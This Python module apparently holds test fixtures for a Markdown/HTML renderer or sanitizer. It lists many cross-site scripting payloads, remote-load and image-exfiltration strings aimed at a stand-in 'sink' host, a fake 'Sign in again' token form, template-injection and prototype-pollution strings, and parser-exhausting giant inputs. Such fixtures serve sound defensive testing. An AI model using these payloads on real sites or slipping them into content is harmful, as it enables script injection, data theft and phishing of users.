"""Texts that try to run something, to fetch something, or to break what shows them."""

SCRIPTS = ["window.__pwned=1", "alert(1)"]


def payloads(sink: str) -> list[str]:
    """Each tries its own way. `sink`: an address that must never be asked for anything."""
    return [*_elements(sink), *_handlers(), *_addresses(sink), *_markdown(sink), *_broken(sink), *_names()]


def giants() -> dict[str, str]:
    """Texts that are hard to read for a parser, by what they are."""
    return {
        "open brackets": "[" * 5000,
        "nested quotes": ">" * 10_000 + " deep",
        "nested lists": "\n".join("  " * depth + "- deep" for depth in range(300)),
        "emphasis": "*a_" * 5000,
        "links in links": "[a](" * 2500,
        "backticks": " ".join("`" * length for length in range(1, 150)),
        "a table of pipes": "|" * 5000 + "\n" + "|-" * 2500,
        "entities": "&#x41;" * 5000,
        "html openings": "<a " * 5000,
        "one line": "0123456789abcdef" * 16_384,
        "combining marks": "Z" + "\u0301" * 5000,
        "direction": "\u202e" * 200 + "backwards",
    }


def _elements(sink: str) -> list[str]:
    run = SCRIPTS[0]
    return [
        f"<script>{run}</script>",
        f"<script src='{sink}/script.js'></script>",
        f"<ScRiPt>{run}</sCrIpT>",
        f"<script\n>{run}</script\n>",
        f"<<script>{run}//<</script>",
        f"<scr<script>ipt>{run}</scr</script>ipt>",
        f"<script type=module>{run}</script>",
        f"<noscript><p title='</noscript><img src=x onerror={run}>'>",
        f"<svg><script>{run}</script></svg>",
        f"<svg><script href='data:,{run}'/></svg>",
        f"<svg><use href='{sink}/use.svg#x'/></svg>",
        f"<svg><image href='{sink}/image.png'/></svg>",
        f"<svg><a xlink:href='javascript:{run}'><text y=20>click</text></a></svg>",
        f"<svg><set attributeName=href to=javascript:{run}></svg>",
        f"<svg><style><img src=x onerror={run}></style></svg>",
        f"<math><mi xlink:href='javascript:{run}'>x</mi></math>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
        f"<math href='{sink}/math'>m</math>",
        "<style>body{display:none !important}</style>",
        f"<style>@import '{sink}/style.css';</style>",
        f"<link rel=stylesheet href='{sink}/link.css'>",
        f"<link rel=prefetch href='{sink}/prefetch'>",
        f"<link rel=preconnect href='{sink}'>",
        f"<meta http-equiv=refresh content='0;url={sink}/refresh'>",
        "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
        f"<base href='{sink}/'>",
        f"<iframe src='{sink}/frame'></iframe>",
        f"<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
        f"<iframe src='javascript:parent.{run}'></iframe>",
        f"<object data='{sink}/object'></object>",
        f"<embed src='{sink}/embed'>",
        f"<applet code='{sink}/applet'></applet>",
        f"<frameset><frame src='{sink}/frames'></frameset>",
        f"<portal src='{sink}/portal'></portal>",
        f"<fencedframe src='{sink}/fenced'></fencedframe>",
        f"<form action='{sink}/form'><button autofocus>Sign in again</button><input name=token></form>",
        f"<button formaction='javascript:{run}'>press</button>",
        f"<isindex type=image src={sink}/isindex.png>",
        f"<input type=image src='{sink}/input.png'>",
        f"<video src='{sink}/video.mp4' autoplay></video>",
        f"<video poster='{sink}/poster.png'></video>",
        f"<audio src='{sink}/audio.mp3' autoplay></audio>",
        f"<picture><source srcset='{sink}/source.png'><img></picture>",
        f"<template><img src=x onerror={run}></template>",
        f"<template shadowrootmode=open><script>{run}</script></template>",
        f"<dialog open><img src=x onerror={run}></dialog>",
        f"<details open ontoggle={run}>open</details>",
        f"<marquee onstart={run}>run</marquee>",
        f"<table background='{sink}/table.png'><tr><td>t</td></tr></table>",
        f"<div style=\"background:url('{sink}/style.png')\">styled</div>",
        f"<p style='behavior:url({sink}/x.htc);-moz-binding:url({sink}/x.xml)'>old</p>",
        "<div style='position:fixed;inset:0;z-index:99999;background:white'>covered</div>",
        f"<custom-element onclick={run}>custom</custom-element>",
        f"<xml><i><b>&lt;img src=x onerror={run}&gt;</b></i></xml>",
    ]


def _handlers() -> list[str]:
    run = SCRIPTS[0]
    return [
        f"<img src=x onerror={run}>",
        f"<img src=x onerror='{run}'//",
        f"<img/src=x/onerror={run}>",
        f"<img src=x:x onerror\n=\n{run}>",
        f'<img src="x` `<script>{run}</script>"` `>',
        f"<img src=x oneonerrorrror={run} onerror={run}>",
        f"<svg onload={run}>",
        f"<svg/onload={run}//",
        f"<svg><animate onbegin={run} attributeName=x dur=1s>",
        f"<body onload={run}>",
        f"<input autofocus onfocus={run}>",
        f"<a href=# onmouseover={run} style='display:block;position:fixed;inset:0'>hover</a>",
        f"<p onpointerenter={run}>p</p>",
        f"<b onclick={run}>bold</b> <kbd onfocus={run} tabindex=0>key</kbd>",
        f"<br onanimationstart={run} style='animation:x 1s'>",
    ]


def _addresses(sink: str) -> list[str]:
    run = "window.__pwned=1"
    return [
        f"[a](javascript:{run})",
        f"[a](JaVaScRiPt:{run})",
        f"[a](java\tscript:{run})",
        f"[a](<java\nscript:{run}>)",
        f"[a](&#106;avascript:{run})",
        f"[a](&#x6A;&#x61;vascript&colon;{run})",
        f"[a](java&Tab;script&colon;{run})",
        f"[a](java&NewLine;script:{run})",
        f"[a](\x01javascript:{run})",
        f"[a]( javascript:{run})",
        f"[a](javascript&#58;{run})",
        f"[a](javascript%3A{run})",
        f"[a](javascript://%0a{run})",
        f"[a](data:text/html,<script>{run}</script>)",
        "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
        f"[a](vbscript:{run})",
        f"[a](view-source:{sink}/)",
        "[a](file:///etc/passwd) [b](filesystem:x) [c](blob:x) [d](about:blank) [e](chrome://settings)",
        f"<javascript:{run}>",
        f"<a href='javascript:{run}'>raw</a>",
        f"<a href=' &#14; javascript:{run}'>raw</a>",
        f"<a href='{sink}/ping' ping='{sink}/ping'>ping</a>",
        f"<a href='{sink}/download' download>download</a>",
        f"[a]({sink}/title \"x' onmouseover='{run}\")",
        f'[a]({sink}/"onmouseover="{run})',
    ]


def _markdown(sink: str) -> list[str]:
    run = "window.__pwned=1"
    return [
        f"![alt]({sink}/image.png)",
        f"![alt]({sink}/image.png?secret=all-that-was-said 'title')",
        f'![x"onerror="{run}](x)',
        f'![alt](x"onerror="{run})',
        f"![alt][picture]\n\n[picture]: {sink}/reference.png",
        f"![alt](//{sink.partition('//')[2]}/relative.png)",
        f"[![nested]({sink}/nested.png)](javascript:{run})",
        f"![svg](data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>)",
        "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        f"<img srcset='{sink}/srcset.png 1x, {sink}/srcset2.png 2x'>",
        f"<img src='{sink}/html.png' loading=eager>",
        f"<img lowsrc='{sink}/low.png' dynsrc='{sink}/dyn.png'>",
        f"[link][evil]\n\n[evil]: javascript:{run}",
        f"[evil]: data:text/html,{run}\n[evil]",
        f"[__proto__]: {sink}/proto\n[__proto__] [constructor] [toString] [hasOwnProperty]",
        "[a][__proto__] [b][constructor] ![c][prototype]",
        f"{sink}/autolink and <{sink}/angle> and www.sink.test and someone@sink.test",
        f"```html\n<script>{run}</script>\n```",
        f'```"><img/src=x/onerror={run}>\ncode\n```',
        "```__proto__\ncode\n```\n\n```constructor\ncode\n```",
        f"`<img src=x onerror={run}>`",
        f"| <img src=x onerror={run}> | b |\n| --- | --- |\n| <script>{run}</script> | [x](javascript:{run}) |",
        f"- [ ] <input onfocus={run} autofocus>\n- [x] done",
        f"# <svg onload={run}>",
        f"[^1]: <img src=x onerror={run}>\n\n[^1]",
        f"$$\\href{{javascript:{run}}}{{x}}$$ \\(\\includegraphics{{{sink}/math.png}}\\)",
        f'```mermaid\ngraph TD; A[<img src=x onerror={run}>] --> B; click A "javascript:{run}"\n```',
        "<!-- comment --!><img src=x onerror=window.__pwned=1> -->",
    ]


def _broken(sink: str) -> list[str]:
    run = "window.__pwned=1"
    return [
        f"<b><i><u><sub>never closed <img src=x onerror={run}",
        f"</div></article></main></body></html><script>{run}</script>",
        f"<!--><script>{run}</script>-->",
        f"<![CDATA[<script>{run}</script>]]>",
        f"<?php echo '<script>{run}</script>' ?>",
        f"<!DOCTYPE html [<!ENTITY x SYSTEM '{sink}/entity'>]>&x;",
        f"<textarea><script>{run}</script>",
        f"<title><img src=x onerror={run}>",
        f"<plaintext><script>{run}</script>",
        f"<xmp><script>{run}</script>",
        f"\u2028<script>{run}</script>\u2029",
        "\ufeff\u200b\u202etext that runs backwards\u202c",
        f"&lt;script&gt;{run}&lt;/script&gt;",
        "<sub id=location name=location class=toasts>clobbered</sub> <a id=__pwned>x</a> <form name=body></form>",
    ]


def _names() -> list[str]:
    return [
        "__proto__",
        "constructor",
        "{{constructor.constructor('window.__pwned=1')()}}",
        "${window.__pwned=1}",
        "%00%0d%0a",
    ]
